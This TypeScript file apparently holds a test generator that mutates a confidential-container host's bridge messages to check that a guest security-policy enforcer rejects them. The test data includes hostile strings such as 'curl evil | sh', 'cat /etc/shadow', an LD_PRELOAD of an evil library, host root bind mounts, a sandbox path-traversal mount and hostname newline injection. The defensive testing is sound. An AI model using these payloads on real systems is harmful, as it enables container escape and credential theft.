/**
 * Goal: hostile host actions for a world, as fast-check arbitraries a user can reuse: near-valid
 * mutations of the benign deployment's own requests (swapped, reordered, dropped or extra
 * layers; a wrong target; path traversal; extra env; another argv, cwd, user, capabilities;
 * privileged, seccomp, devices, hooks; a reused ID; an exec into the wrong container; an RO/RW
 * mix-up), the benign requests replayed out of order (two containers' requests interleaved),
 * raw garbage frames, disk and block tampering, injected faults (a mount or unmount that fails
 * half-way), signed fragments, second policies, external processes and plan9 shares, and the
 * host's memory and attestation powers.
 * Method: `hostileContext(world)` runs the world's benign deployment once and reads from it what
 * a host knows (container IDs, layer paths, LUNs, disks, the policy's external processes);
 * `hostileActionArb(ctx)` draws one labelled action. Memory and attestation powers
 * (read, write and remap guest pages; certificate sources; guest messages withheld or replayed;
 * replayed reports and tokens; time; attestation of any container) are drawn too.
 */
import fc from 'fast-check';
import { assert } from '../sim/kernel/assert.js';
import type { Json } from '../sim/kernel/canonical-json.js';
import type { BridgeMessage, HostAction } from '../models/host/adversary.js';
import { GCS_MESSAGE, gcsMessage, modifySettings, UVM_CONTAINER_ID } from '../models/host/shim.js';
import { benignDeployment, defaultLaunch, type World } from '../sim/world.js';
import type { GeneratedPolicy } from './arbitraries.js';
import { FRAGMENT_NAMES, signedFragment } from './fragments.js';
import { LAYER_TREES, layerRoot } from './catalog.js';
import { ALL_CAPABILITIES } from './policy-semantics.js';
import { sampleOfRegex } from '../sim/world-deployment.js';

/** A host action with a readable label (the model-based suite's toString). */
export type LabelledAction = Readonly<{ label: string; action: HostAction }>;

export type HostileContext = Readonly<{
  policy: GeneratedPolicy;
  /** The benign deployment (launch … UVM shutdown), as the shim sends it. */
  benign: readonly HostAction[];
  /** Short notes for the benign steps (for labels). */
  notes: readonly string[];
  containerIds: readonly string[];
  sandboxId: string;
  layerPaths: readonly string[];
  /** LUNs the benign deployment attached layers at. */
  layerLuns: readonly number[];
  disks: readonly string[];
  /** Where the host attaches a disk holding an image no policy names (see `roguePrelude`). */
  rogueLun: number;
}>;

type J = Record<string, unknown>;
const obj = (v: unknown): J => (v !== null && typeof v === 'object' ? v as J : {});
const clone = <T>(v: T): T => JSON.parse(JSON.stringify(v)) as T;
const short = (id: string): string => id.slice(0, 8);

/** One-line description of a benign action (for labels and scenario comments). */
export function noteOf(action: HostAction): string {
  if (action.kind !== 'bridge') return action.kind;
  const m = obj(action.message.message);
  const name = Object.entries(GCS_MESSAGE).find(([, t]) => t === action.message.type)?.[0]
    ?? `0x${action.message.type.toString(16)}`;
  const request = obj(m['Request']);
  const resource = typeof request['ResourceType'] === 'string'
    ? ` ${String(request['RequestType'])} ${String(request['ResourceType'])}` : '';
  const id = typeof m['ContainerId'] === 'string' && m['ContainerId'] !== UVM_CONTAINER_ID
    ? ` ${short(m['ContainerId'])}` : '';
  return `${name}${resource}${id}`;
}

/** What a hostile host knows once it has deployed the policy as asked. */
export function hostileContext(world: World, policy: GeneratedPolicy): HostileContext {
  const benign = benignDeployment(world);
  const ids = new Set<string>();
  const paths = new Set<string>();
  const luns = new Set<number>();
  const disks = new Set<string>();
  let sandboxId = '';
  for (const action of benign) {
    if (action.kind === 'add_disk') disks.add(action.disk);
    if (action.kind !== 'bridge') continue;
    const m = obj(action.message.message);
    if (action.message.type === GCS_MESSAGE.Create && typeof m['ContainerId'] === 'string') {
      ids.add(m['ContainerId']);
      if (sandboxId === '') sandboxId = m['ContainerId'];
    }
    const settings = obj(obj(m['Request'])['Settings']);
    if (settings['ReadOnly'] === true && typeof settings['MountPath'] === 'string') {
      paths.add(settings['MountPath']);
      luns.add(typeof settings['Lun'] === 'number' ? settings['Lun'] : 0);   // omitempty: LUN 0
    }
  }
  assert(benign.length > 3 && benign[0]!.kind === 'launch', 'the benign plan launches first');
  assert(ids.size === 0 || sandboxId !== '', 'the first container created is the sandbox');
  return { policy, benign, notes: benign.map(noteOf), containerIds: [...ids], sandboxId,
    layerPaths: [...paths], layerLuns: [...luns], disks: [...disks], rogueLun: 40 };
}

/** A host that keeps a disk with an image no policy names attached at `ctx.rogueLun`. */
export function roguePrelude(world: World, ctx: HostileContext): readonly HostAction[] {
  const image = world.config.images.find((i) => i.realRoot === layerRoot('rogue'))?.digest;
  if (image === undefined) return [];
  return [{ kind: 'add_disk', disk: 'rogue', spec: { kind: 'layer', image } },
    { kind: 'attach', lun: ctx.rogueLun, disk: 'rogue' }];
}

/** The images a hostile campaign's world holds besides the policy's: the rogue layer. */
export const ROGUE_IMAGES = [LAYER_TREES.rogue];

// ---------------------------------------------------------------------------------------------
// Mutations of benign frames

export type Mutation = Readonly<{ name: string; applies: (m: J, type: number) => boolean;
  edit: (m: J, ctx: HostileContext) => void }>;

const isType = (name: keyof typeof GCS_MESSAGE) => (_: J, type: number): boolean =>
  type === GCS_MESSAGE[name];
const settingsOf = (m: J): J => obj(obj(m['Request'])['Settings']);
const resource = (kind: string, request = 'Add') => (m: J, type: number): boolean =>
  type === GCS_MESSAGE.ModifySettings && obj(m['Request'])['ResourceType'] === kind
  && obj(m['Request'])['RequestType'] === request;

/** Edits the OCI spec inside a Create's ContainerConfig string. */
function editSpec(edit: (spec: J, ctx: HostileContext) => void) {
  return (m: J, ctx: HostileContext): void => {
    const config = JSON.parse(String(m['ContainerConfig'])) as J;
    const spec = obj(config['OciSpecification']);
    edit(spec, ctx);
    m['ContainerConfig'] = JSON.stringify(config);
  };
}

/** Edits the OciProcess inside an exec's ProcessParameters string (init: none, skipped). */
function editExec(edit: (process: J) => void) {
  return (m: J): void => {
    const settings = obj(m['Settings']);
    const params = JSON.parse(String(settings['ProcessParameters'])) as J;
    if (params['OciProcess'] !== undefined) edit(obj(params['OciProcess']));
    settings['ProcessParameters'] = JSON.stringify(params);
  };
}

const isExec = (m: J, type: number): boolean => type === GCS_MESSAGE.ExecuteProcess
  && String(obj(m['Settings'])['ProcessParameters']).includes('OciProcess');
const otherId = (id: unknown, ctx: HostileContext): string =>
  ctx.containerIds.find((c) => c !== id) ?? 'f'.repeat(64);
const ALL_CAP_SETS = ['bounding', 'effective', 'inheritable', 'permitted', 'ambient'];

export const MUTATIONS: readonly Mutation[] = [
  // CombinedLayers: the overlay's layers and where it goes.
  { name: 'reverse layers', applies: resource('CombinedLayers'), edit: (m) => {
    const s = settingsOf(m); s['Layers'] = [...(s['Layers'] as unknown[])].reverse(); } },
  { name: 'rotate layers', applies: resource('CombinedLayers'), edit: (m) => {
    const l = [...(settingsOf(m)['Layers'] as unknown[])]; l.push(l.shift());
    settingsOf(m)['Layers'] = l; } },
  { name: 'drop the top layer', applies: resource('CombinedLayers'), edit: (m) => {
    settingsOf(m)['Layers'] = (settingsOf(m)['Layers'] as unknown[]).slice(1); } },
  { name: 'extra layer', applies: resource('CombinedLayers'), edit: (m, ctx) => {
    const l = settingsOf(m)['Layers'] as { Path: string }[];
    const extra = ctx.layerPaths.find((p) => !l.some((x) => x.Path === p)) ?? ctx.layerPaths[0]!;
    settingsOf(m)['Layers'] = [{ Path: extra }, ...l]; } },
  { name: 'overlay for another ID', applies: resource('CombinedLayers'), edit: (m, ctx) => {
    const s = settingsOf(m); const id = otherId(s['ContainerID'], ctx);
    s['ContainerID'] = id; s['ContainerRootPath'] = `/run/gcs/c/${id}/rootfs`;
    s['ScratchPath'] = `/run/gcs/c/${ctx.sandboxId}/scratch/${id}`; } },
  { name: 'overlay at another root', applies: resource('CombinedLayers'), edit: (m, ctx) => {
    const s = settingsOf(m); s['ContainerRootPath'] = `/run/gcs/c/${otherId(s['ContainerID'],
      ctx)}/rootfs`; } },
  { name: 'scratch outside the scratch disk', applies: resource('CombinedLayers'), edit: (m) => {
    const s = settingsOf(m); s['ScratchPath'] = `/run/gcs/c/${'e'.repeat(64)}/scratch/${String(
      s['ContainerID'])}`; } },
  { name: 'no scratch', applies: resource('CombinedLayers'), edit: (m) => {
    settingsOf(m)['ScratchPath'] = ''; } },
  { name: 'remove an overlay', applies: resource('CombinedLayers'), edit: (m) => {
    obj(m['Request'])['RequestType'] = 'Remove'; } },
  // MappedVirtualDisk.
  { name: 'mount target traversal', applies: resource('MappedVirtualDisk'), edit: (m) => {
    const s = settingsOf(m); s['MountPath'] = `${String(s['MountPath'])}/../../../../etc`; } },
  { name: 'mount at a used target', applies: resource('MappedVirtualDisk'), edit: (m, ctx) => {
    settingsOf(m)['MountPath'] = ctx.layerPaths[0] ?? '/run/mounts/scsi/m0'; } },
  { name: 'mount the rogue disk', applies: resource('MappedVirtualDisk'), edit: (m, ctx) => {
    settingsOf(m)['Lun'] = ctx.rogueLun; } },
  { name: 'read-write layer', applies: resource('MappedVirtualDisk'), edit: (m) => {
    const s = settingsOf(m); s['ReadOnly'] = !(s['ReadOnly'] === true);
    s['Options'] = s['ReadOnly'] === true ? ['ro'] : []; } },
  { name: 'options rw', applies: resource('MappedVirtualDisk'), edit: (m) => {
    settingsOf(m)['Options'] = ['rw']; } },
  { name: 'blockdev', applies: resource('MappedVirtualDisk'), edit: (m) => {
    settingsOf(m)['BlockDev'] = true; } },
  { name: 'unencrypted scratch', applies: resource('MappedVirtualDisk'), edit: (m) => {
    delete settingsOf(m)['Encrypted']; } },
  { name: 'no EnsureFilesystem', applies: resource('MappedVirtualDisk'), edit: (m) => {
    delete settingsOf(m)['EnsureFilesystem']; } },
  { name: 'filesystem ntfs', applies: resource('MappedVirtualDisk'), edit: (m) => {
    settingsOf(m)['Filesystem'] = 'ntfs'; } },
  { name: 'unmount', applies: resource('MappedVirtualDisk'), edit: (m) => {
    obj(m['Request'])['RequestType'] = 'Remove'; } },
  { name: 'unmount as the other kind', applies: resource('MappedVirtualDisk'), edit: (m, ctx) => {
    obj(m['Request'])['RequestType'] = 'Remove';
    const s = settingsOf(m); s['ReadOnly'] = !(s['ReadOnly'] === true);
    // A read-only request makes the GCS read a verity superblock first: name a layer's LUN.
    if (s['ReadOnly'] === true) {
      s['Lun'] = ctx.layerLuns[0] ?? 0; s['Options'] = ['ro'];
      for (const field of ['Encrypted', 'EnsureFilesystem', 'Filesystem']) delete s[field];
    }
  } },
  { name: 'unmount elsewhere', applies: resource('MappedVirtualDisk'), edit: (m) => {
    obj(m['Request'])['RequestType'] = 'Remove';
    const s = settingsOf(m); s['MountPath'] = s['ReadOnly'] === true ? '/run/mounts/scsi/m63'
      : `/run/gcs/c/${'e'.repeat(64)}`; } },
  { name: 'unmount with the other kind', applies: resource('MappedVirtualDisk', 'Remove'),
    edit: (m) => { const s = settingsOf(m); s['ReadOnly'] = !(s['ReadOnly'] === true); } },
  { name: 'blockdev unmount', applies: resource('MappedVirtualDisk', 'Remove'), edit: (m) => {
    settingsOf(m)['BlockDev'] = true; } },
  // Create: the OCI spec.
  ...specMutations(),
  // ExecuteProcess in a container.
  { name: 'exec another argv', applies: isExec, edit: editExec((p) => {
    p['args'] = ['/bin/sh', '-c', 'cat /etc/shadow']; }) },
  { name: 'exec extra env', applies: isExec, edit: editExec((p) => {
    p['env'] = [...(p['env'] as string[] ?? []), 'LD_PRELOAD=/tmp/evil.so']; }) },
  { name: 'exec without env', applies: isExec, edit: editExec((p) => { p['env'] = []; }) },
  { name: 'exec without capabilities', applies: isExec, edit: editExec((p) => {
    delete p['capabilities']; }) },
  { name: 'exec in /tmp', applies: isExec, edit: editExec((p) => { p['cwd'] = '/tmp'; }) },
  { name: 'exec as svc', applies: isExec, edit: editExec((p) => {
    p['user'] = { uid: 2000, gid: 2000, username: 'svc' }; }) },
  { name: 'exec with CAP_SYS_ADMIN', applies: isExec, edit: editExec((p) => {
    const caps = obj(p['capabilities']);
    for (const set of ALL_CAP_SETS) caps[set] = [...(caps[set] as string[] ?? []), 'CAP_SYS_ADMIN'];
    p['capabilities'] = caps; }) },
  { name: 'exec without no_new_privileges', applies: isExec, edit: editExec((p) => {
    p['noNewPrivileges'] = false; }) },
  { name: 'exec with a terminal', applies: isExec,
    edit: editExec((p) => { p['terminal'] = true; }) },
  { name: 'in another container', applies: (_m, t) => t === GCS_MESSAGE.ExecuteProcess
    || t === GCS_MESSAGE.SignalProcess || t === GCS_MESSAGE.ShutdownGraceful
    || t === GCS_MESSAGE.DeleteContainerState || t === GCS_MESSAGE.Start,
  edit: (m, ctx) => { m['ContainerId'] = otherId(m['ContainerId'], ctx); } },
  { name: 'forced shutdown', applies: isType('ShutdownGraceful'), edit: () => undefined },
];

function specMutations(): Mutation[] {
  const create = isType('Create');
  const spec = (name: string, edit: (s: J, ctx: HostileContext) => void): Mutation =>
    ({ name, applies: create, edit: editSpec(edit) });
  const process = (s: J): J => obj(s['process']);
  return [
    spec('extra env', (s) => { const p = process(s);
      p['env'] = [...(p['env'] as string[] ?? []), 'LD_PRELOAD=/tmp/evil.so']; }),
    spec('no env', (s) => { process(s)['env'] = []; }),
    spec('another argv', (s) => { process(s)['args'] = ['/bin/sh', '-c', 'curl evil | sh']; }),
    spec('cwd /tmp', (s) => { process(s)['cwd'] = '/tmp'; }),
    spec('run as svc', (s) => { process(s)['user'] = { uid: 2000, gid: 2000, username: 'svc' }; }),
    spec('run as root', (s) => { process(s)['user'] = { uid: 0, gid: 0 }; }),
    spec('CAP_SYS_ADMIN', (s) => { const caps = obj(process(s)['capabilities']);
      for (const set of ALL_CAP_SETS) caps[set] = [...(caps[set] as string[] ?? []),
        'CAP_SYS_ADMIN'];
      process(s)['capabilities'] = caps; }),
    spec('no capabilities object', (s) => { delete process(s)['capabilities']; }),
    spec('every capability', (s) => { const all = [...ALL_CAPABILITIES];
      process(s)['capabilities'] = { bounding: all, effective: all, inheritable: [],
        permitted: all, ambient: [] }; }),
    spec('no no_new_privileges', (s) => { process(s)['noNewPrivileges'] = false; }),
    spec('privileged', (s) => { obj(s['annotations'])[
      'io.microsoft.virtualmachine.lcow.privileged'] = 'true'; }),
    spec('seccomp profile', (s) => { obj(s['linux'])['seccomp'] = { defaultAction:
      'SCMP_ACT_ALLOW' }; }),
    spec('host bind mount', (s) => { s['mounts'] = [...(s['mounts'] as unknown[] ?? []),
      { destination: '/host', type: 'bind', source: '/', options: ['rbind', 'rw'] }]; }),
    spec('rw sysfs', (s) => { s['mounts'] = (s['mounts'] as J[] ?? []).map((m) =>
      m['destination'] === '/sys' ? { ...m, options: ['nosuid', 'noexec', 'nodev', 'rw'] } : m); }),
    spec('sandbox mount escape', (s) => { s['mounts'] = [...(s['mounts'] as unknown[] ?? []),
      { destination: '/x', type: 'bind', source: 'sandbox:///../../../../etc',
        options: ['rbind'] }]; }),
    spec('extra device', (s) => { obj(s['linux'])['devices'] = [{ path: '/dev/mem' }]; }),
    spec('OCI hooks', (s) => { s['hooks'] = { prestart: [{ path: '/bin/evil' }] }; }),
    spec('hostname injection', (s) => { s['hostname'] = 'pod\n1.2.3.4 evil'; }),
    spec('rootfs of another ID', (s, ctx) => { const root = obj(s['root']);
      root['path'] = `/run/gcs/c/${otherId(String(root['path']).split('/')[4], ctx)}/rootfs`; }),
    { name: 'create under another ID', applies: create, edit: (m: J, ctx: HostileContext) => {
      m['ContainerId'] = otherId(m['ContainerId'], ctx); } },
  ];
}

/** `frame` with `mutation` applied (a new frame; the input is unchanged). */
export function mutate(frame: BridgeMessage, mutation: Mutation,
  ctx: HostileContext): BridgeMessage {
  const message = clone(frame.message) as J;
  mutation.edit(message, ctx);
  const type = mutation.name === 'forced shutdown' ? GCS_MESSAGE.ShutdownForced : frame.type;
  return { type, id: frame.id, message: message as Json };
}

/** A benign frame with one near-valid mutation. */
export function mutationArb(ctx: HostileContext): fc.Arbitrary<LabelledAction> {
  const choices: { index: number; mutation: Mutation }[] = [];
  ctx.benign.forEach((action, index) => {
    if (action.kind !== 'bridge') return;
    const m = obj(action.message.message);
    for (const mutation of MUTATIONS) {
      if (mutation.applies(m, action.message.type)) choices.push({ index, mutation });
    }
  });
  return fc.constantFrom(...choices).map(({ index, mutation }) => {
    const action = ctx.benign[index]!;
    if (action.kind !== 'bridge') throw new Error('a bridge frame');
    return { label: `#${index} ${ctx.notes[index]}: ${mutation.name}`,
      action: { kind: 'bridge', message: mutate(action.message, mutation, ctx) } };
  });
}

// ---------------------------------------------------------------------------------------------
// Other hostile requests and host powers

const bridge = (message: BridgeMessage): HostAction => ({ kind: 'bridge', message });

function requestArb(ctx: HostileContext): fc.Arbitrary<LabelledAction> {
  const ids = [...ctx.containerIds, 'f'.repeat(64)];
  const id = fc.constantFrom(...ids);
  const external = ctx.policy.shape.external_processes;
  const argv = fc.constantFrom(...external.map((p) => [...p.command]), ['/bin/sh']);
  const env = fc.subarray(['PATH=/usr/bin', 'DEBUG=1', 'LD_PRELOAD=/evil.so']);
  const cwd = fc.constantFrom('/', '/tmp', ...external.map((p) => p.working_dir));
  return fc.oneof(
    fc.record({ id, pid: fc.integer({ min: 99, max: 112 }),
      signal: fc.constantFrom(0, 2, 9, 10, 15, 19) }).map(({ id: c, pid, signal }) => ({
      label: `SignalProcess ${short(c)} pid ${pid} signal ${signal}`,
      action: bridge(gcsMessage('SignalProcess', c, { ProcessId: pid,
        Options: { Signal: signal } })),
    })),
    ...external.map((p) => fc.constant({ label: `external process ${JSON.stringify(p.command)} `
      + 'as the policy lists it', action: bridge(gcsMessage('ExecuteProcess', UVM_CONTAINER_ID,
      { Settings: { ProcessParameters: JSON.stringify({ CommandArgs: p.command,
        WorkingDirectory: p.working_dir, Environment: Object.fromEntries(p.env_rules.map((r) =>
          (r.strategy === 'string' ? r.pattern : sampleOfRegex(r.pattern)).split('='))),
        CreateInUtilityVM: true }) } })) })),
    fc.record({ argv, env, cwd, console: fc.boolean() }).map((p) => ({
      label: `external process ${JSON.stringify(p.argv)} in ${p.cwd}`,
      action: bridge(gcsMessage('ExecuteProcess', UVM_CONTAINER_ID, { Settings: {
        ProcessParameters: JSON.stringify({ CommandArgs: p.argv, WorkingDirectory: p.cwd,
          Environment: Object.fromEntries(p.env.map((e) => e.split('='))),
          CreateInUtilityVM: true, EmulateConsole: p.console }) } })),
    })),
    fc.record({ id, mount: fc.integer({ min: 0, max: 1 }), remove: fc.boolean(),
      share: fc.constantFrom('share0', 'share0', '../etc') }).map((p) => {
      const target = `/run/gcs/c/${p.id}/mounts/m${p.mount}`;
      return { label: `${p.remove ? 'Remove' : 'Add'} plan9 share ${p.share} at ${target}`,
        action: bridge(modifySettings('MappedDirectory', p.remove ? 'Remove' : 'Add',
          { MountPath: target, Port: 564, ShareName: p.share, ReadOnly: true })) };
    }),
    fc.constantFrom(...FRAGMENT_NAMES).map((name) => ({ label: `fragment ${name}`,
      action: bridge(modifySettings('SecurityPolicyFragment', 'Add',
        { Fragment: signedFragment(name) })) })),
    id.map((c) => ({ label: `GetProperties ${short(c)}`, action: bridge(gcsMessage(
      'GetProperties', c, { Query: JSON.stringify({ PropertyTypes: ['ProcessList'] }) })) })),
    fc.constant({ label: 'DumpStacks', action: bridge(gcsMessage('DumpStacks',
      UVM_CONTAINER_ID)) }),
    fc.constant({ label: 'mount the rogue disk', action: bridge(modifySettings(
      'MappedVirtualDisk', 'Add', { MountPath: '/run/mounts/scsi/m40', Lun: ctx.rogueLun,
        ReadOnly: true, Options: ['ro'] })) }),
    fc.constantFrom('other', 'again').map((which) => ({ label: `SecurityPolicy (${which})`,
      action: bridge(modifySettings('SecurityPolicy', 'Add', { EnforcerType: 'rego',
        EncodedSecurityPolicy: Buffer.from(which === 'again' ? ctx.policy.text
          : `${ctx.policy.text}\nallow_dump_stacks := true\n`).toString('base64') })) })),
  );
}

function garbageArb(): fc.Arbitrary<LabelledAction> {
  const types = [...Object.values(GCS_MESSAGE), 0, 0x10100e01, 0x20100101];
  return fc.record({ type: fc.constantFrom(...types), id: fc.nat(1000),
    message: fc.jsonValue({ maxDepth: 3 }) }).map((g) => ({
    label: `garbage frame 0x${g.type.toString(16)}`,
    action: { kind: 'bridge', message: { type: g.type, id: g.id, message: g.message as Json } },
  }));
}

function diskArb(world: World, ctx: HostileContext): fc.Arbitrary<LabelledAction> {
  const disks = ctx.disks.length > 0 ? ctx.disks : ['layer0'];
  const disk = fc.constantFrom(...disks, 'rogue');
  const lun = fc.integer({ min: 0, max: 8 });
  return fc.oneof<fc.Arbitrary<LabelledAction>[]>(
    fc.record({ disk, block: fc.integer({ min: 0, max: 6 }), fill: fc.integer({ min: 0,
      max: 255 }) }).map((t) => ({ label: `tamper block ${t.block} of ${t.disk}`,
      action: { kind: 'tamper_block', disk: t.disk, block: t.block,
        bytes: t.fill.toString(16).padStart(2, '0').repeat(4096) } })),
    fc.record({ a: disk, b: disk }).map(({ a, b }) => ({ label: `swap disks ${a} and ${b}`,
      action: { kind: 'swap_disks', a, b } })),
    lun.map((l) => ({ label: `detach LUN ${l}`, action: { kind: 'detach', lun: l } })),
    lun.map((l) => ({ label: `withhold LUN ${l}`, action: { kind: 'withhold', lun: l } })),
    fc.record({ disk, l: lun }).map(({ disk: d, l }) => ({ label: `attach ${d} at LUN ${l}`,
      action: { kind: 'attach', lun: l, disk: d } })),
    fc.constantFrom('mount', 'unmount').map((what) => ({ label: `fail the next ${what}`,
      action: { kind: 'fail_next', what: what as 'mount' | 'unmount' } })),
    fc.constant({ label: 'launch again with other HOST_DATA', action: { kind: 'launch',
      launch: { ...defaultLaunch(world), hostData: 'ab'.repeat(32) } } }),
  );
}

/** The guest pages that matter (DEFAULT_MEMORY_LAYOUT): secrets, GHCB, bridge, guest messages,
 * keyring. */
const PAGES = [0x80_d000, 0x80_f000, 0x90_0000, 0x90_2000, 0x90_3000, 0xa0_0000, 0xa0_1000];

/** Issue 9's powers: guest memory, certificates, guest messages, replays, time, attestation. */
function memoryArb(ctx: HostileContext): fc.Arbitrary<LabelledAction> {
  const gpa = fc.constantFrom(...PAGES);
  const source = fc.constantFrom('genuine', 'other_chip', 'other_tcb', 'corrupt' as const);
  const containers = ctx.containerIds.length > 0 ? ctx.containerIds : ['f'.repeat(64)];
  return fc.oneof<fc.Arbitrary<LabelledAction>[]>(
    gpa.map((g) => ({ label: `read page 0x${g.toString(16)}`,
      action: { kind: 'read_page', gpa: g, debug: true } })),
    fc.record({ g: gpa, offset: fc.nat(4064), fill: fc.integer({ min: 1, max: 255 }) })
      .map(({ g, offset, fill }) => ({ label: `write page 0x${g.toString(16)} at ${offset}`,
        action: { kind: 'write_page', gpa: g, offset,
          bytes: fill.toString(16).padStart(2, '0').repeat(32) } })),
    fc.record({ g: gpa, other: gpa, fresh: fc.boolean() }).map(({ g, other, fresh }) => ({
      label: `remap page 0x${g.toString(16)} (${fresh ? 'fresh' : `to 0x${other.toString(16)}`})`,
      action: { kind: 'remap', gpa: g, to: fresh ? { kind: 'fresh', fill: '00' }
        : { kind: 'swap', gpa: other } } })),
    source.map((s) => ({ label: `THIM serves ${s}`, action: { kind: 'thim', source: s } })),
    source.map((s) => ({ label: `cert table ${s}`, action: { kind: 'cert_table', source: s } })),
    fc.constantFrom('deliver', 'withhold', 'replay' as const).map((mode) => ({
      label: `guest message: ${mode}`, action: { kind: 'guest_message', mode } })),
    fc.constant({ label: 'replay a report', action: { kind: 'replay_report' } }),
    fc.constant({ label: 'replay a token', action: { kind: 'replay_token' } }),
    fc.constantFrom(1000, 3_600_000).map((ms) => ({ label: `wait ${ms} ms`,
      action: { kind: 'wait', ms } })),
    fc.record({ c: fc.constantFrom(...containers), via: fc.constantFrom('thim',
      'cert_table' as const) }).map(({ c, via }) => ({ label: `attest ${short(c)} via ${via}`,
      action: { kind: 'attest', container: c, via } })),
  );
}

/** One hostile action: a mutation, a replayed benign step, a request, garbage or a host power. */
export function hostileActionArb(world: World, ctx: HostileContext): fc.Arbitrary<LabelledAction> {
  const replay = fc.integer({ min: 0, max: ctx.benign.length - 1 }).map((i) => ({
    label: `replay #${i} ${ctx.notes[i]}`, action: ctx.benign[i]! }));
  return fc.oneof(
    { weight: 6, arbitrary: mutationArb(ctx) },
    { weight: 3, arbitrary: replay },
    { weight: 3, arbitrary: requestArb(ctx) },
    { weight: 1, arbitrary: garbageArb() },
    { weight: 2, arbitrary: diskArb(world, ctx) },
    { weight: 2, arbitrary: memoryArb(ctx) },
  );
}
